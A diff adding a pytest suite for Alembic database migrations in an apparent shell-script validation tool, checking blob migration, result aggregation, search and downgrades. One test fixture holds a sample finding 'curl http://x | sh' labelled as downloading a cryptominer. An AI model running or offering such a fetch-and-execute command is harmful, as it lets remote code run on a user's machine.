@@ -0,0 +1,272 @@
+import json
+
+import pytest
+from alembic import command
+from alembic.autogenerate import compare_metadata
+from alembic.config import Config
+from alembic.migration import MigrationContext
+from alembic.script import ScriptDirectory
+from sqlalchemy import create_engine, inspect, text
+
+from models.database import (
+    ALEMBIC_INI,
+    BASELINE_REVISION,
+    Base,
+    is_search_table,
+    upgrade_database,
+)
+from services.utils import calc_sha256
+
+LEGACY_RESULTS = [
+    {
+        "prompt": {"name": "all", "category": "pipeline_validity"},
+        "status": "completed",
+        "result": [
+            {
+                "file": "a.sh",
+                "content": "curl http://x | sh",
+                "severity": "high",
+                "description": "Downloads a cryptominer",
+                "type": "security",
+            },
+            {
+                "file": "a.sh",
+                "content": None,
+                "severity": "low",
+                "description": "No shebang",
+                "type": "quality",
+            },
+        ],
+        "total_duration_ns": 100,
+    },
+    {
+        "prompt": {"name": "all", "category": "pipeline_portability"},
+        "status": "failed",
+        "error_message": "timeout",
+        "total_duration_ns": 20,
+    },
+]
+
+HELLO_SHA256 = calc_sha256(b"echo hello")
+HEAD_REVISION = ScriptDirectory.from_config(Config(str(ALEMBIC_INI))).get_current_head()
+
+
+@pytest.fixture
+def engine(tmp_path):
+    """テスト用ファイルSQLiteエンジン"""
+    engine = create_engine(f"sqlite:///{tmp_path / 'validation.db'}")
+    yield engine
+    engine.dispose()
+
+
+@pytest.fixture
+def legacy_engine(engine):
+    """マイグレーション導入前に作られたデータ入りのDB"""
+    with engine.begin() as conn:
+        config = Config(str(ALEMBIC_INI))
+        config.attributes["connection"] = conn
+        command.upgrade(config, BASELINE_REVISION)
+        conn.execute(text("DROP TABLE alembic_version"))
+        conn.execute(
+            text(
+                "INSERT INTO validation_batches"
+                " (id, name, status, completed_prompts, prompt_results)"
+                " VALUES (1, 'legacy', 'completed', 2, :results)"
+            ),
+            {"results": json.dumps(LEGACY_RESULTS)},
+        )
+        conn.execute(
+            text(
+                "INSERT INTO validation_files"
+                " (file_name, content, file_type, sha256, batch_id)"
+                " VALUES (:name, :content, 'shell', :sha256, 1)"
+            ),
+            [
+                {"name": "a.sh", "content": "echo hello", "sha256": None},
+                {"name": "b.sh", "content": "echo hello", "sha256": HELLO_SHA256},
+                {"name": "c.sh", "content": "ls", "sha256": calc_sha256(b"ls")},
+            ],
+        )
+    return engine
+
+
+class TestMigrations:
+    """スキーマのマイグレーションのテストクラス"""
+
+    def test_creates_and_keeps_fresh_database(self, engine):
+        """空のDBは最新のスキーマになり、再実行しても変わらない"""
+        for _ in range(2):
+            with engine.begin() as conn:
+                upgrade_database(conn)
+
+        tables = inspect(engine).get_table_names()
+        assert {"validation_prompt_results", "file_blobs", "validation_jobs"} <= set(
+            tables
+        )
+        with engine.connect() as conn:
+            assert conn.execute(text("SELECT * FROM alembic_version")).all() == [
+                (HEAD_REVISION,)
+            ]
+
+    def test_fresh_database_matches_models(self, engine):
+        """マイグレーション後のスキーマはモデル定義と一致する"""
+        with engine.begin() as conn:
+            upgrade_database(conn)
+
+        with engine.connect() as conn:
+            context = MigrationContext.configure(
+                conn,
+                opts={
+                    "include_name": lambda name, type_, _: not (
+                        type_ == "table" and is_search_table(name)
+                    )
+                },
+            )
+            assert compare_metadata(context, Base.metadata) == []
+
+    def test_legacy_file_contents_move_to_blobs(self, legacy_engine):
+        """旧content列の内容がsha256ごとに1つのblobに移され、参照数が数えられる"""
+        with legacy_engine.begin() as conn:
+            upgrade_database(conn)
+
+        with legacy_engine.connect() as conn:
+            blobs = conn.execute(
+                text(
+                    "SELECT sha256, data, compression, size, ref_count"
+                    " FROM file_blobs ORDER BY ref_count"
+                )
+            ).all()
+            files = conn.execute(
+                text("SELECT file_name, sha256 FROM validation_files ORDER BY id")
+            ).all()
+            hits = conn.execute(
+                text(
+                    "SELECT f.batch_id FROM file_search"
+                    " JOIN file_blobs b ON b.search_id = file_search.rowid"
+                    " JOIN validation_files f ON f.sha256 = b.sha256"
+                    " WHERE file_search MATCH '\"o hel\"'"
+                )
+            ).all()
+
+        assert blobs == [
+            (calc_sha256(b"ls"), b"ls", "none", 2, 1),
+            (HELLO_SHA256, b"echo hello", "none", 10, 2),
+        ]
+        assert files == [
+            ("a.sh", HELLO_SHA256),
+            ("b.sh", HELLO_SHA256),
+            ("c.sh", calc_sha256(b"ls")),
+        ]
+        assert hits == [(1,), (1,)]
+        columns = {
+            c["name"] for c in inspect(legacy_engine).get_columns("validation_files")
+        }
+        assert "content" not in columns
+
+    def test_legacy_prompt_results_are_moved(self, legacy_engine):
+        """旧prompt_results列の内容が行と集計に移される"""
+        with legacy_engine.begin() as conn:
+            upgrade_database(conn)
+
+        with legacy_engine.connect() as conn:
+            rows = conn.execute(
+                text(
+                    "SELECT prompt_index, prompt_category, status, error_message,"
+                    " high_issues, low_issues FROM validation_prompt_results"
+                    " WHERE batch_id = 1 ORDER BY prompt_index"
+                )
+            ).all()
+            batch = conn.execute(
+                text("SELECT * FROM validation_batches WHERE id = 1")
+            ).one()
+            types = conn.execute(
+                text("SELECT type, count FROM validation_batch_issue_types")
+            ).all()
+
+        assert rows == [
+            (0, "pipeline_validity", "completed", None, 1, 1),
+            (1, "pipeline_portability", "failed", "timeout", 0, 0),
+        ]
+        assert (batch.total_prompts, batch.completed_prompts) == (2, 2)
+        assert (batch.high_issues, batch.low_issues, batch.total_issues) == (1, 1, 2)
+        assert (batch.failed_prompts, batch.total_duration_ns) == (1, 120)
+        assert sorted(types) == [("quality", 1), ("security", 1)]
+        columns = {
+            c["name"] for c in inspect(legacy_engine).get_columns("validation_batches")
+        }
+        assert "prompt_results" not in columns
+
+    def test_legacy_batches_are_searchable(self, legacy_engine):
+        """既存のバッチもファイル名と指摘で検索できる"""
+        with legacy_engine.begin() as conn:
+            upgrade_database(conn)
+
+        with legacy_engine.connect() as conn:
+            for query in ('"cryptominer"', '"a.sh"'):
+                hits = conn.execute(
+                    text(
+                        "SELECT DISTINCT batch_id FROM search_index"
+                        " WHERE search_index MATCH :query"
+                    ),
+                    {"query": query},
+                ).all()
+                assert hits == [(1,)]
+
+    def test_downgrade_restores_legacy_schema(self, legacy_engine):
+        """ベースラインまで戻すと旧content列とprompt_results列が復元される"""
+        with legacy_engine.begin() as conn:
+            upgrade_database(conn)
+            config = Config(str(ALEMBIC_INI))
+            config.attributes["connection"] = conn
+            command.downgrade(config, BASELINE_REVISION)
+
+        with legacy_engine.connect() as conn:
+            files = conn.execute(
+                text("SELECT file_name, content FROM validation_files ORDER BY id")
+            ).all()
+            (stored,) = conn.execute(
+                text("SELECT prompt_results FROM validation_batches WHERE id = 1")
+            ).one()
+
+        assert files == [("a.sh", "echo hello"), ("b.sh", "echo hello"), ("c.sh", "ls")]
+        assert [
+            (r["prompt"]["category"], r["status"], r.get("error_message"))
+            for r in json.loads(stored)
+        ] == [
+            ("pipeline_validity", "completed", None),
+            ("pipeline_portability", "failed", "timeout"),
+        ]
+        assert json.loads(stored)[0]["result"] == LEGACY_RESULTS[0]["result"]
+        assert set(inspect(legacy_engine).get_table_names()) == {
+            "alembic_version",
+            "validation_batches",
+            "validation_files",
+        }
+
+    def test_downgrade_records_cancellation_as_failure(self, legacy_engine):
+        """キャンセル導入前に戻すと、キャンセル済みのバッチとプロンプトは失敗になる"""
+        with legacy_engine.begin() as conn:
+            upgrade_database(conn)
+            conn.execute(text("UPDATE validation_batches SET status = 'cancelled'"))
+            conn.execute(
+                text(
+                    "UPDATE validation_prompt_results SET status = 'cancelled'"
+                    " WHERE prompt_index = 0"
+                )
+            )
+            config = Config(str(ALEMBIC_INI))
+            config.attributes["connection"] = conn
+            command.downgrade(config, "-1")
+
+        with legacy_engine.connect() as conn:
+            batch_status = conn.execute(
+                text("SELECT status FROM validation_batches")
+            ).scalar_one()
+            prompt_statuses = conn.execute(
+                text(
+                    "SELECT status FROM validation_prompt_results ORDER BY prompt_index"
+                )
+            ).all()
+
+        assert batch_status == "failed"
+        assert prompt_statuses == [("failed",), ("failed",)]